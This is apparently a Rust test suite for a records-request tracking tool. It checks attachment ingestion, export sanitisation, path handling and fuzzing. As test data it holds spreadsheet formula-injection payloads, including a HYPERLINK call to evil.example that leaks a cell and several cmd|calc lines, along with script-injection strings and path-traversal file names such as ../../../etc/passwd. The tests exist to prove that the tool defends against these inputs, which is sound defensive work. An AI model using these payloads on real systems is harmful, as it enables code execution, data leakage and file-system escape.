fn base64_lines(data: &[u8]) -> String {
    const ABC: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len() * 4 / 3 + data.len() / 38 + 4);
    for (i, chunk) in data.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            out.push_str("\r\n");
        }
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for j in 0..4 {
            if j <= chunk.len() {
                out.push(ABC[((n >> (18 - 6 * j)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A reply with a 50 MB attachment is not hostile: it is filed, and the stored file is the
/// attachment byte for byte.
#[test]
fn a_reply_with_a_50_mb_attachment_is_filed_whole() {
    let (env, ids) = env_with_requests(1);
    let mut rng = Rng::seeded("50 MB attachment");
    let data: Vec<u8> = (0..50 * 1024 * 1024 / 8)
        .flat_map(|_| rng.next().to_le_bytes())
        .collect();
    let eml = format!(
        "From: Records <records@bergen.example>\r\nTo: ana@ledger.example\r\n\
         Subject: Re: records [docket #{}]\r\nDate: Tue, 17 Nov 2026 09:00:00 -0500\r\n\
         Message-ID: <big@bergen.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
         Content-Type: text/plain\r\n\r\nThe records are attached.\r\n--b\r\n\
         Content-Type: application/pdf\r\n\
         Content-Disposition: attachment; filename=\"records.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        ids[0],
        base64_lines(&data)
    );
    let mail = env.path().join("big.eml");
    std::fs::write(&mail, eml).unwrap();
    let started = Instant::now();
    let out = env.ok(&["ingest", mail.to_str().unwrap()]);
    eprintln!(
        "ingested a 50 MB attachment in {:.1} s",
        started.elapsed().as_secs_f64()
    );
    assert!(
        out.contains("1 filed") && out.contains("1 attachment(s)"),
        "{out}"
    );
    let conn = ro(&env.db());
    let (doc, bytes): (i64, i64) = conn
        .query_row(
            "SELECT d.id, d.bytes FROM documents d JOIN request_documents rd ON rd.document_id = d.id \
             WHERE rd.name = 'records.pdf'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(bytes, data.len() as i64);
    let stored = env.ok(&["open", &doc.to_string()]);
    assert!(
        std::fs::read(stored.trim()).unwrap() == data,
        "the stored file differs"
    );
}

// ---------------------------------------------------------------------------------------------
// Exports and letters that are safe to open

/// Every file under `root`, relative to it.
fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            } else {
                out.push(e.path().strip_prefix(root).unwrap().to_path_buf());
            }
        }
    }
    out.sort();
    out
}

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
];

/// Agencies and requests whose names, titles and tracking numbers are formulas, markup or
/// paths, as a pasted list or a reply might carry them.
fn hostile_data_env() -> Env {
    let env = Env::new();
    env.ok(&["config", "set", "name", "Ana Reyes"]);
    let mut csv = String::from("name,state,email\n");
    for (i, f) in FORMULAS.iter().enumerate() {
        csv.push_str(&format!(
            "\"{}\",NC,r{i}@formula.example\n",
            f.replace('"', "\"\"")
        ));
    }
    csv.push_str("\"<script>alert('name')</script> Sheriff\",NJ,s@markup.example\n");
    csv.push_str("../../../etc/passwd Sheriff,NJ,p@path.example\n");
    let path = env.path().join("hostile.csv");
    std::fs::write(&path, csv).unwrap();
    env.ok(&["agency", "import", path.to_str().unwrap()]);
    let slugs: Vec<String> = env
        .run(&["agency", "list", "--format", "json"])
        .json()
        .as_array()
        .unwrap()
        .iter()
        // The six added, not the built-in federal offices.
        .filter(|a| a["state"] != "US")
        .map(|a| a["slug"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(slugs.len(), 6);
    let titles = [
        "=1+1",
        "<img src=x onerror=alert(1)> records",
        "@cmd",
        "| a | pipe | title |",
        "-5",
        "+ sign",
    ];
    for (id, (slug, title)) in (1..).zip(slugs.iter().zip(titles)) {
        let id = id.to_string();
        // `--title=-5`: a value that starts with '-' is given with '='.
        let title = format!("--title={title}");
        env.ok(&[
            "draft",
            "--agency",
            slug,
            "--set",
            "records=booking logs",
            &title,
        ]);
        env.ok(&["file", &id, "--on", "2026-10-01"]);
        env.ok(&[
            "log",
            &id,
            "ack",
            "--on",
            "2026-10-02",
            "--tracking",
            "=2+5",
        ]);
    }
    // And one batch to all six (requests 7 to 12), filed at once.
    let mut args = vec![
        "draft",
        "--set",
        "records=booking logs",
        "--batch",
        "hostile",
    ];
    for slug in &slugs {
        args.extend(["--agency", slug.as_str()]);
    }
    env.ok(&args);
    env.ok(&["file", "--batch", "hostile", "--on", "2026-10-01"]);
    env
}

/// Text cells of CSV output never start like a formula; numbers stay numbers.
fn assert_csv_neutral(what: &str, csv: &str) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    let mut cells = 0;
    for record in r.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            let number = cell.parse::<f64>().is_ok();
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                number || !risky,
                "{what}: a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    assert!(cells > 0, "{what}: no cells");
}

/// CSV exports and listings neutralise formulas, the HTML export escapes markup, and the
/// Markdown export keeps each row one row.
#[test]
fn exports_are_safe_to_open() {
    let env = hostile_data_env();
    let csv = env.ok(&["export", "--format", "csv"]);
    assert_csv_neutral("export", &csv);
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(
        csv.contains("'=1+1") && csv.contains("'=2+5") && csv.contains("'@cmd"),
        "{csv}"
    );
    for args in [
        &["agency", "list", "--format", "csv"][..],
        &["list", "--format", "csv"],
        &["overdue", "--format", "csv"],
        &["stats", "--by", "agency", "--format", "csv"],
    ] {
        let out = env.run(args);
        assert!(matches!(out.code, 0 | 3), "{args:?}: {}", out.stderr);
        if !out.stdout.trim().is_empty() {
            assert_csv_neutral(&args.join(" "), &out.stdout);
        }
    }

    let html = env.ok(&["export", "--format", "html", "--title", "<b>Status</b>"]);
    let page = scraper::Html::parse_document(&html);
    let all = scraper::Selector::parse("*").unwrap();
    for el in page.select(&all) {
        let name = el.value().name();
        assert!(
            !matches!(name, "script" | "img" | "iframe" | "object" | "embed" | "b"),
            "the page grew a <{name}> element from the data"
        );
        for (attr, _) in el.value().attrs() {
            assert!(
                !attr.starts_with("on"),
                "an event handler attribute: {attr}"
            );
        }
    }
    let text: String = page.root_element().text().collect();
    assert!(
        text.contains("<script>alert('name')</script> Sheriff"),
        "escaped text is shown as text"
    );
    assert!(text.contains("<img src=x onerror=alert(1)> records"));

    let md = env.ok(&["export", "--format", "markdown"]);
    let table: Vec<&str> = md.lines().filter(|l| l.starts_with('|')).collect();
    let cols = |l: &str| l.replace("\\|", "").matches('|').count();
    assert!(table.len() >= 14, "{md}");
    assert!(
        table.iter().all(|l| cols(l) == cols(table[0])),
        "a title broke out of its Markdown cell:\n{md}"
    );
}

/// `letter --batch B --out DIR` names its files from request numbers and slugs only: nothing
/// lands outside DIR, even for a slug that a hand-edited database made a path; and a batch of
/// one still goes into the folder.
#[test]
fn letters_are_written_inside_the_chosen_folder_only() {
    let env = hostile_data_env();
    // A database edited by hand (or merged from elsewhere) with a path for a slug.
    {
        let conn = Connection::open(env.db()).unwrap();
        conn.execute(
            "UPDATE agencies SET slug = '../../../escaped' \
             WHERE id = (SELECT min(id) FROM agencies WHERE state <> 'US')",
            [],
        )
        .unwrap();
    }
    let before = files_under(env.path());
    let out = env.path().join("out").join("letters");
    env.ok(&[
        "letter",
        "--batch",
        "hostile",
        "--out",
        out.to_str().unwrap(),
    ]);
    env.ok(&[
        "letter",
        "--batch",
        "hostile",
        "--kind",
        "followup",
        "--eml",
        "--out",
        out.to_str().unwrap(),
    ]);
    let after = files_under(env.path());
    let new: Vec<&PathBuf> = after.iter().filter(|p| !before.contains(p)).collect();
    assert_eq!(new.len(), 12, "{new:#?}");
    for p in &new {
        assert_eq!(
            p.parent(),
            Some(Path::new("out/letters")),
            "{}",
            p.display()
        );
        let name = p.file_name().unwrap().to_str().unwrap();
        assert!(
            name.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '-' | '.'))
                && !name.starts_with('.'),
            "{name}"
        );
    }
    // The hand-edited slug is not used: that letter is named `NNNNN-agency-...`.
    assert!(
        new.iter()
            .any(|p| p.to_str().unwrap().ends_with("-agency-initial.txt")),
        "{new:#?}"
    );

    // A batch of one request: --out still names a folder.
    let slug = env.agency("Durham County Sheriff's Office", "NC");
    env.ok(&[
        "draft",
        "--agency",
        &slug,
        "--set",
        "records=x",
        "--batch",
        "single",
    ]);
    let single = env.path().join("single");
    env.ok(&[
        "letter",
        "--batch",
        "single",
        "--out",
        single.to_str().unwrap(),
    ]);
    assert!(
        single.is_dir(),
        "a batch of one wrote a file instead of a folder"
    );
    assert_eq!(
        files_under(&single),
        vec![PathBuf::from("00013-durham-so-nc-initial.txt")]
    );
}

/// Attachment names such as `../../x` are kept as labels only: the stored files are named by
/// their hash inside the documents folder, and nothing is written anywhere else.
#[test]
fn attachment_names_never_choose_where_files_go() {
    let (env, ids) = env_with_requests(1);
    let names = [
        "../../../../outside.txt",
        "..\\..\\windows.txt",
        "/etc/passwd",
        ".hidden",
        "..",
        "a\u{1}b.txt",
    ];
    let mut eml = format!(
        "From: Records <records@bergen.example>\r\nTo: ana@ledger.example\r\n\
         Subject: Re: records [docket #{}]\r\nDate: Tue, 17 Nov 2026 09:00:00 -0500\r\n\
         Message-ID: <paths@bergen.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
         Content-Type: text/plain\r\n\r\nSee attached.\r\n",
        ids[0]
    );
    for (i, name) in names.iter().enumerate() {
        eml.push_str(&format!(
            "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"{}\"\r\n\r\nfile {i}\r\n",
            name.replace('\\', "\\\\")
        ));
    }
    eml.push_str("--b--\r\n");
    let mail = env.path().join("mail").join("paths.eml");
    std::fs::create_dir(mail.parent().unwrap()).unwrap();
    std::fs::write(&mail, eml).unwrap();
    let scan = env.path().join("mail").join("..scan.pdf");
    std::fs::write(&scan, b"%PDF scan").unwrap();

    let before = files_under(env.path());
    env.ok(&["ingest", mail.to_str().unwrap()]);
    let via_dots = format!("{}/../mail/..scan.pdf", env.path().join("mail").display());
    env.ok(&["attach", &ids[0], &via_dots]);
    let after = files_under(env.path());
    for p in after.iter().filter(|p| !before.contains(p)) {
        let mut parts = p.components().map(|c| c.as_os_str().to_str().unwrap());
        assert_eq!(parts.next(), Some("docket.documents"), "{}", p.display());
        let (dir, file) = (parts.next().unwrap(), parts.next().unwrap());
        assert!(
            parts.next().is_none() && dir.len() == 2 && file.len() == 64,
            "{}",
            p.display()
        );
        assert!(file.starts_with(dir) && file.chars().all(|c| c.is_ascii_hexdigit()));
    }
    let labels: Vec<String> = ro(&env.db())
        .prepare("SELECT name FROM request_documents WHERE role IS NOT 'sent' ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(labels.len(), names.len() + 3, "{labels:?}");
    for l in &labels {
        assert!(
            !l.contains(['/', '\\']) && !l.starts_with('.') && !l.chars().any(char::is_control),
            "a stored name is still a path: {l:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Fuzzing, on stable

/// The checks the cargo-fuzz targets run (fuzz/, scripts/fuzz.sh), included here so that the
/// suite runs the very same code without a nightly toolchain.
#[path = "../../fuzz/src/checks.rs"]
mod fuzz_checks;

/// Bytes that make parsers take other roads.
const TOKENS: &[&[u8]] = &[
    b",",
    b"\"",
    b"\n",
    b"\r\n",
    b"\0",
    b"=",
    b"-",
    b".",
    b"/",
    b"9999",
    b"2026-02-29",
    b"\n\n",
    b"From ",
    b"Subject: ",
    b"Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\n",
    b"Content-Disposition: attachment; filename=\"../x\"\n",
    b"=?utf-8?B?",
    b"{{",
    b"}}",
    b"\xe2\x80\xae",
    b"\xff",
    b"PK\x03\x04",
    b"[docket #",
    b"$",
    b"\t",
];

/// One random change to `input`, or a splice with `other`.
fn mutate(input: &[u8], other: &[u8], rng: &mut Rng) -> Vec<u8> {
    let mut v = input.to_vec();
    let at = |v: &Vec<u8>, rng: &mut Rng| rng.below(v.len() as u64 + 1) as usize;
    for _ in 0..=rng.below(4) {
        match rng.below(6) {
            0 if !v.is_empty() => {
                let i = rng.below(v.len() as u64) as usize;
                v[i] ^= 1 << rng.below(8);
            }
            1 => {
                let i = at(&v, rng);
                v.insert(i, rng.next() as u8);
            }
            2 if !v.is_empty() => {
                let i = rng.below(v.len() as u64) as usize;
                let n = (rng.below(16) as usize).min(v.len() - i);
                v.drain(i..i + n);
            }
            3 => {
                let i = at(&v, rng);
                let t = TOKENS[rng.below(TOKENS.len() as u64) as usize];
                v.splice(i..i, t.iter().copied());
            }
            4 if !v.is_empty() => {
                let i = rng.below(v.len() as u64) as usize;
                let n = (rng.below(64) as usize).min(v.len() - i);
                let copy = v[i..i + n].to_vec();
                let j = at(&v, rng);
                v.splice(j..j, copy);
            }
            _ => {
                let i = at(&v, rng);
                let j = rng.below(other.len() as u64 + 1) as usize;
                v.truncate(i);
                v.extend_from_slice(&other[j..]);
            }
        }
    }
    v
}

/// Every input a fuzzer ever crashed on (fuzz/regressions/TARGET/, kept as regression tests),
/// every seed, and a few hundred random mutations of them, through each target's checks.
#[test]
fn fuzz_checks_hold_on_past_crashes_seeds_and_mutations() {
    type Check = fn(&[u8]);
    let targets: [(&str, Check, u64); 6] = [
        ("dates", fuzz_checks::dates, 10_000),
        ("import", fuzz_checks::import, 300),
        ("mail", fuzz_checks::mail, 5000),
        ("render", fuzz_checks::render, 100),
        ("templates", fuzz_checks::templates, 60),
        ("mbox", fuzz_checks::mbox, 2000),
    ];
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz");
    // A fixed seed unless DOCKET_TEST_SEED says otherwise, so that CI runs the same mutations
    // every time; new seeds are the fuzzers' job (scripts/fuzz.sh).
    let mut rng = match std::env::var("DOCKET_TEST_SEED") {
        Ok(_) => Rng::seeded("fuzz checks"),
        Err(_) => Rng(0x005e_edd0_c4e7),
    };
    for (target, check, mutations) in targets {
        let started = Instant::now();
        let mut inputs: Vec<(String, Vec<u8>)> = Vec::new();
        for kind in ["regressions", "seeds"] {
            let dir = root.join(kind).join(target);
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            let mut files: Vec<PathBuf> = entries.map(|e| e.unwrap().path()).collect();
            files.sort();
            for f in files {
                let name = format!(
                    "{kind}/{target}/{}",
                    f.file_name().unwrap().to_string_lossy()
                );
                inputs.push((name, std::fs::read(&f).unwrap()));
            }
        }
        assert!(!inputs.is_empty(), "fuzz/seeds/{target} is empty");
        let run = |what: &str, input: &[u8]| {
            if std::panic::catch_unwind(|| check(input)).is_err() {
                // Kept byte for byte, ready to be moved into fuzz/regressions/TARGET/.
                let saved =
                    Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("fuzz-failure-{target}"));
                let _ = std::fs::write(&saved, input);
                panic!(
                    "the {target} check failed on {what} (the input is in {}): {:?}\n(save it under fuzz/regressions/{target}/)",
                    saved.display(),
                    String::from_utf8_lossy(input)
                );
            }
        };
        for (name, input) in &inputs {
            run(name, input);
        }
        for n in 0..mutations {
            let a = &inputs[rng.below(inputs.len() as u64) as usize].1;
            let b = &inputs[rng.below(inputs.len() as u64) as usize].1;
            run(&format!("mutation {n}"), &mutate(a, b, &mut rng));
        }
        eprintln!(
            "fuzz check {target}: {} saved inputs and {mutations} mutations in {:.1} s",
            inputs.len(),
            started.elapsed().as_secs_f64()
        );
    }
}
